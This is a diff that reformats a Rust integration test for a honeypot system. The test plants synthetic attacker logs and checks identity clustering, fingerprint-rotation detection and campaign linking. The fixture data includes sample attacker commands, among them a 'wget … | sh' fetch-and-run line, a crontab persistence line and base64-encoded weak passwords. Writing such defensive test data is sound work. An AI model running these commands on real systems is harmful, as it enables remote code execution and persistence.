@@ -13,18 +13,31 @@ use postgres::Client;
 use std::collections::BTreeSet;
 use std::fmt::Write as _;
 
-const ACTOR: [&str; 6] = ["198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4", "198.51.100.5", "198.51.100.6"];
+const ACTOR: [&str; 6] = [
+    "198.51.100.1",
+    "198.51.100.2",
+    "198.51.100.3",
+    "198.51.100.4",
+    "198.51.100.5",
+    "198.51.100.6",
+];
 const ROTATOR: &str = "203.0.113.50";
 const HANDOFF: [&str; 2] = ["192.0.2.77", "192.0.2.88"];
 const NOISE: usize = 60;
-const MEMBERSHIP: &str = "SELECT host(attacker_ip) || '=' || identity_id FROM decnet.identity_members ORDER BY 1";
+const MEMBERSHIP: &str =
+    "SELECT host(attacker_ip) || '=' || identity_id FROM decnet.identity_members ORDER BY 1";
 
 fn noise_ip(i: usize) -> String {
     format!("100.64.{}.{}", i / 200, i % 200 + 1)
 }
 
 fn at(minute: usize, second: usize) -> String {
-    format!("2026-05-01T{:02}:{:02}:{:02}+00:00", minute / 60, minute % 60, second)
+    format!(
+        "2026-05-01T{:02}:{:02}:{:02}+00:00",
+        minute / 60,
+        minute % 60,
+        second
+    )
 }
 
 fn corpus() -> String {
@@ -35,49 +48,147 @@ fn corpus() -> String {
     // the actor: five addresses with one SSH server (HASSH), all six run its playbook
     for (k, ip) in ACTOR.iter().enumerate() {
         if k < 5 {
-            line(at(10 * k, 0), "decnet-prober", "prober", "hassh_fingerprint",
-                 format!(r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-of-the-actor""#));
+            line(
+                at(10 * k, 0),
+                "decnet-prober",
+                "prober",
+                "hassh_fingerprint",
+                format!(
+                    r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-of-the-actor""#
+                ),
+            );
         }
-        line(at(10 * k, 1), "decky-01", "ssh", "connection", format!(r#"src_ip="{ip}""#));
+        line(
+            at(10 * k, 1),
+            "decky-01",
+            "ssh",
+            "connection",
+            format!(r#"src_ip="{ip}""#),
+        );
         // the actor's own password list (root/toor, admin/Adm1n!)
         for secret in ["dG9vcg==", "QWRtMW4h"] {
-            line(at(10 * k, 1), "decky-01", "auth-helper", "auth_attempt", format!(r#"src_ip="{ip}" username="root" secret_b64="{secret}""#));
+            line(
+                at(10 * k, 1),
+                "decky-01",
+                "auth-helper",
+                "auth_attempt",
+                format!(r#"src_ip="{ip}" username="root" secret_b64="{secret}""#),
+            );
         }
         for (c, cmd) in PLAYBOOK.iter().enumerate() {
             // the sixth never touches the actor's download server: only its rhythm, commands and passwords tie it
             if k == 5 && !decnet_core::identity::c2_endpoints(cmd).is_empty() {
                 continue;
             }
-            line(at(10 * k, 2 + c), "decky-01", "bash", "command", format!(r#"src_ip="{ip}" command="{cmd}""#));
+            line(
+                at(10 * k, 2 + c),
+                "decky-01",
+                "bash",
+                "command",
+                format!(r#"src_ip="{ip}" command="{cmd}""#),
+            );
         }
     }
     // the rotator: one address, one port, JA3 b1 b1 b2 b2 b3 (two rotations)
-    for (k, ja3) in ["ja3-b1", "ja3-b1", "ja3-b2", "ja3-b2", "ja3-b3"].iter().enumerate() {
-        line(at(100 + k, 0), "decky-02", "sniffer", "tls_client_hello",
-             format!(r#"src_ip="{ROTATOR}" src_port="5000{k}" dst_ip="10.0.0.2" dst_port="443" ja3="{ja3}" ja4="t13d_{k}""#));
+    for (k, ja3) in ["ja3-b1", "ja3-b1", "ja3-b2", "ja3-b2", "ja3-b3"]
+        .iter()
+        .enumerate()
+    {
+        line(
+            at(100 + k, 0),
+            "decky-02",
+            "sniffer",
+            "tls_client_hello",
+            format!(
+                r#"src_ip="{ROTATOR}" src_port="5000{k}" dst_ip="10.0.0.2" dst_port="443" ja3="{ja3}" ja4="t13d_{k}""#
+            ),
+        );
     }
     // a handoff on db-01: one identity leaves persistence, another starts discovery an hour later
-    line(at(200, 0), "db-01", "bash", "command", format!(r#"src_ip="{}" command="wget http://198.18.0.1/a.sh -O- | sh""#, HANDOFF[0]));
-    line(at(201, 0), "db-01", "bash", "command", format!(r#"src_ip="{}" command="echo '* * * * * /tmp/a' | crontab -""#, HANDOFF[0]));
-    line(at(261, 0), "db-01", "bash", "command", format!(r#"src_ip="{}" command="cat /etc/os-release""#, HANDOFF[1]));
-    line(at(262, 0), "db-01", "bash", "command", format!(r#"src_ip="{}" command="netstat -tlnp""#, HANDOFF[1]));
+    line(
+        at(200, 0),
+        "db-01",
+        "bash",
+        "command",
+        format!(
+            r#"src_ip="{}" command="wget http://198.18.0.1/a.sh -O- | sh""#,
+            HANDOFF[0]
+        ),
+    );
+    line(
+        at(201, 0),
+        "db-01",
+        "bash",
+        "command",
+        format!(
+            r#"src_ip="{}" command="echo '* * * * * /tmp/a' | crontab -""#,
+            HANDOFF[0]
+        ),
+    );
+    line(
+        at(261, 0),
+        "db-01",
+        "bash",
+        "command",
+        format!(r#"src_ip="{}" command="cat /etc/os-release""#, HANDOFF[1]),
+    );
+    line(
+        at(262, 0),
+        "db-01",
+        "bash",
+        "command",
+        format!(r#"src_ip="{}" command="netstat -tlnp""#, HANDOFF[1]),
+    );
     // noise: a popular client JA3, common commands and one password, one AS
     for i in 0..NOISE {
         let ip = noise_ip(i);
-        line(at(300 + i, 0), "decky-03", "sniffer", "tls_client_hello",
-             format!(r#"src_ip="{ip}" src_port="40000" dst_ip="10.0.0.3" dst_port="443" ja3="ja3-of-curl" ja4="t13d_curl""#));
-        line(at(300 + i, 1), "decnet-prober", "prober", "hassh_fingerprint",
-             format!(r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-noise-{i}""#));
-        line(at(300 + i, 2), "decky-03", "auth-helper", "auth_attempt", format!(r#"src_ip="{ip}" username="root" secret_b64="MTIzNDU2""#));
-        line(at(300 + i, 3), "decky-03", "bash", "command", format!(r#"src_ip="{ip}" command="uname -a""#));
-        line(at(300 + i, 4), "decky-03", "bash", "command", format!(r#"src_ip="{ip}" command="id""#));
+        line(
+            at(300 + i, 0),
+            "decky-03",
+            "sniffer",
+            "tls_client_hello",
+            format!(
+                r#"src_ip="{ip}" src_port="40000" dst_ip="10.0.0.3" dst_port="443" ja3="ja3-of-curl" ja4="t13d_curl""#
+            ),
+        );
+        line(
+            at(300 + i, 1),
+            "decnet-prober",
+            "prober",
+            "hassh_fingerprint",
+            format!(r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-noise-{i}""#),
+        );
+        line(
+            at(300 + i, 2),
+            "decky-03",
+            "auth-helper",
+            "auth_attempt",
+            format!(r#"src_ip="{ip}" username="root" secret_b64="MTIzNDU2""#),
+        );
+        line(
+            at(300 + i, 3),
+            "decky-03",
+            "bash",
+            "command",
+            format!(r#"src_ip="{ip}" command="uname -a""#),
+        );
+        line(
+            at(300 + i, 4),
+            "decky-03",
+            "bash",
+            "command",
+            format!(r#"src_ip="{ip}" command="id""#),
+        );
     }
     out
 }
 
 /// The actor types with one rhythm on all six addresses; two noise addresses type too, each its own way.
 fn record_sessions(c: &mut Client) {
-    let actor = Typist { seed: 42, base: 0.12 };
+    let actor = Typist {
+        seed: 42,
+        base: 0.12,
+    };
     let mut rng = Rng::new(3);
     let mut insert = |sid: String, ip: &str, t: &Typist, rng: &mut Rng| {
         let events = t.session(&sid, PLAYBOOK, rng);
@@ -90,7 +201,10 @@ fn record_sessions(c: &mut Client) {
         }
     }
     for (i, base) in [(0usize, 0.07), (1, 0.3)] {
-        let t = Typist { seed: 900 + i as u64, base };
+        let t = Typist {
+            seed: 900 + i as u64,
+            base,
+        };
         insert(format!("noise-{i}"), &noise_ip(i), &t, &mut rng);
     }
 }
@@ -116,7 +230,9 @@ fn rotation_notes(listener: &mut Client) -> Vec<serde_json::Value> {
             seqs.push(note.payload().to_owned());
         }
     }
-    seqs.iter().map(|seq| notification(listener, "decnet_rotation", seq)).collect()
+    seqs.iter()
+        .map(|seq| notification(listener, "decnet_rotation", seq))
+        .collect()
 }
 
 #[test]
@@ -125,31 +241,55 @@ fn planted_actors_are_found_and_nothing_else() {
     let mut listener = connect(&dsn_for("it_identities"));
     listener.batch_execute("LISTEN decnet_rotation").unwrap();
     // the AS of all noise addresses: a shared AS alone links nobody
-    c.batch_execute("SELECT decnet.load_iptoasn(E'100.64.0.0\\t100.64.255.255\\t64500\\tZZ\\tNOISE-AS\\n')").unwrap();
+    c.batch_execute(
+        "SELECT decnet.load_iptoasn(E'100.64.0.0\\t100.64.255.255\\t64500\\tZZ\\tNOISE-AS\\n')",
+    )
+    .unwrap();
 
     let lines = corpus();
     ingest_bytes(&mut c, lines.as_bytes());
     record_sessions(&mut c);
     drain(&mut c);
-    c.batch_execute("SELECT * FROM decnet.cluster_campaigns()").unwrap();
+    c.batch_execute("SELECT * FROM decnet.cluster_campaigns()")
+        .unwrap();
 
     // exactly one multi-address identity: the actor, its sixth address linked by rhythm and commands
     let mut actor: Vec<String> = ACTOR.iter().map(|s| s.to_string()).collect();
     actor.sort();
     let rhythm: Vec<String> = column(&mut c, "SELECT s.attacker_ip::text || ':' || encode(decnet.kd_centroid(s.kd_simhash), 'hex')
                                               FROM decnet.session_profiles s GROUP BY s.attacker_ip ORDER BY 1");
-    assert_eq!(groups(&mut c), BTreeSet::from([actor.clone()]), "keystroke centroids: {rhythm:?}");
+    assert_eq!(
+        groups(&mut c),
+        BTreeSet::from([actor.clone()]),
+        "keystroke centroids: {rhythm:?}"
+    );
     let row = c
         .query_one("SELECT hassh_hashes, kd_digraph_simhash IS NOT NULL, ja3_hashes FROM decnet.identity_summary WHERE member_count = 6", &[])
         .unwrap();
-    assert_eq!(row.get::<_, Option<Vec<String>>>(0), Some(vec!["hassh-of-the-actor".to_string()]));
-    assert!(row.get::<_, bool>(1), "the identity carries the keystroke centroid");
-    assert_eq!(row.get::<_, Option<Vec<String>>>(2), None, "no JA3 on the actor: NULL, not an empty list");
+    assert_eq!(
+        row.get::<_, Option<Vec<String>>>(0),
+        Some(vec!["hassh-of-the-actor".to_string()])
+    );
+    assert!(
+        row.get::<_, bool>(1),
+        "the identity carries the keystroke centroid"
+    );
+    assert_eq!(
+        row.get::<_, Option<Vec<String>>>(2),
+        None,
+        "no JA3 on the actor: NULL, not an empty list"
+    );
     // every other address is alone
     let attackers = count(&mut c, "SELECT count(*) FROM decnet.attackers");
     assert_eq!(attackers as usize, ACTOR.len() + 1 + HANDOFF.len() + NOISE);
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_summary"), attackers - 5);
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_members"), attackers);
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
+        attackers - 5
+    );
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.identity_members"),
+        attackers
+    );
 
     // exactly the planted rotations, on the rotator's JA3
     let rotations: Vec<(String, String, String)> = c
@@ -159,8 +299,17 @@ fn planted_actors_are_found_and_nothing_else() {
         .map(|r| (r.get(0), r.get(1), r.get(2)))
         .collect();
     let want = |o: &str, n: &str| (ROTATOR.to_string(), o.to_string(), n.to_string());
-    assert_eq!(rotations, vec![want("ja3-b1", "ja3-b2"), want("ja3-b2", "ja3-b3")]);
-    assert_eq!(count(&mut c, &format!("SELECT rotation_count::bigint FROM decnet.attackers WHERE ip = '{ROTATOR}'")), 2);
+    assert_eq!(
+        rotations,
+        vec![want("ja3-b1", "ja3-b2"), want("ja3-b2", "ja3-b3")]
+    );
+    assert_eq!(
+        count(
+            &mut c,
+            &format!("SELECT rotation_count::bigint FROM decnet.attackers WHERE ip = '{ROTATOR}'")
+        ),
+        2
+    );
     let notes = rotation_notes(&mut listener);
     assert_eq!(notes.len(), 1, "one notification for the statement");
     assert_eq!(notes[0]["count"], 2);
@@ -168,18 +317,37 @@ fn planted_actors_are_found_and_nothing_else() {
 
     // one campaign: the two identities of the handoff
     let campaigns: Vec<Vec<String>> = column(&mut c, "SELECT ARRAY(SELECT host(m) FROM unnest(member_ips) m ORDER BY 1) FROM decnet.campaign_summary");
-    assert_eq!(campaigns, vec![HANDOFF.iter().map(|s| s.to_string()).collect::<Vec<_>>()]);
+    assert_eq!(
+        campaigns,
+        vec![HANDOFF.iter().map(|s| s.to_string()).collect::<Vec<_>>()]
+    );
 
     // replaying every line changes no identity, rotation or campaign, and verify() stays empty
     let before: Vec<String> = column(&mut c, MEMBERSHIP);
     ingest_bytes(&mut c, lines.as_bytes());
     drain(&mut c);
-    c.batch_execute("SELECT * FROM decnet.cluster_campaigns(); SELECT * FROM decnet.recluster_identities()").unwrap();
+    c.batch_execute(
+        "SELECT * FROM decnet.cluster_campaigns(); SELECT * FROM decnet.recluster_identities()",
+    )
+    .unwrap();
     let after: Vec<String> = column(&mut c, MEMBERSHIP);
-    assert_eq!(before, after, "identities are stable across a replay and a full pass");
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.fingerprint_rotations"), 2);
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.campaign_summary"), 1);
-    assert_eq!(rotation_notes(&mut listener).len(), 0, "a replay rotates nothing");
+    assert_eq!(
+        before, after,
+        "identities are stable across a replay and a full pass"
+    );
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.fingerprint_rotations"),
+        2
+    );
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.campaign_summary"),
+        1
+    );
+    assert_eq!(
+        rotation_notes(&mut listener).len(),
+        0,
+        "a replay rotates nothing"
+    );
     assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.verify()"), 0);
 }
 
@@ -190,19 +358,48 @@ fn a_full_pass_splits_what_no_longer_holds_together() {
         format!("<134>1 2026-05-01T00:00:00+00:00 decnet-prober prober - hassh_fingerprint [relay@55555 target_ip=\"{ip}\" target_port=\"22\" hassh_server_hash=\"{hash}\"]\n")
     };
     // three addresses share one HASSH: one identity
-    let lines: String = ["10.9.0.1", "10.9.0.2", "10.9.0.3"].iter().map(|ip| probe(ip, "h-shared")).collect();
+    let lines: String = ["10.9.0.1", "10.9.0.2", "10.9.0.3"]
+        .iter()
+        .map(|ip| probe(ip, "h-shared"))
+        .collect();
     ingest_bytes(&mut c, lines.as_bytes());
     drain(&mut c);
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_summary"), 1);
-    let id: String = c.query_one("SELECT decnet.identity_of('10.9.0.1')::text", &[]).unwrap().get(0);
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
+        1
+    );
+    let id: String = c
+        .query_one("SELECT decnet.identity_of('10.9.0.1')::text", &[])
+        .unwrap()
+        .get(0);
     // the value becomes common (60 more addresses): it now marks a tool, not an actor
-    let more: String = (0..60).map(|i| probe(&format!("10.9.1.{i}"), "h-shared")).collect();
+    let more: String = (0..60)
+        .map(|i| probe(&format!("10.9.1.{i}"), "h-shared"))
+        .collect();
     ingest_bytes(&mut c, more.as_bytes());
     drain(&mut c);
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"), 1, "incremental passes only grow");
-    c.batch_execute("SELECT * FROM decnet.recluster_identities()").unwrap();
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"), 0, "the full pass splits it");
-    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.identity_summary"), 63);
+    assert_eq!(
+        count(
+            &mut c,
+            "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"
+        ),
+        1,
+        "incremental passes only grow"
+    );
+    c.batch_execute("SELECT * FROM decnet.recluster_identities()")
+        .unwrap();
+    assert_eq!(
+        count(
+            &mut c,
+            "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"
+        ),
+        0,
+        "the full pass splits it"
+    );
+    assert_eq!(
+        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
+        63
+    );
     // the old id lives on in one of the parts, so references to it still resolve
     let live: i64 = count(&mut c, &format!("SELECT count(*) FROM decnet.identity_members WHERE identity_id = decnet.resolve_identity('{id}')"));
     assert_eq!(live, 1);
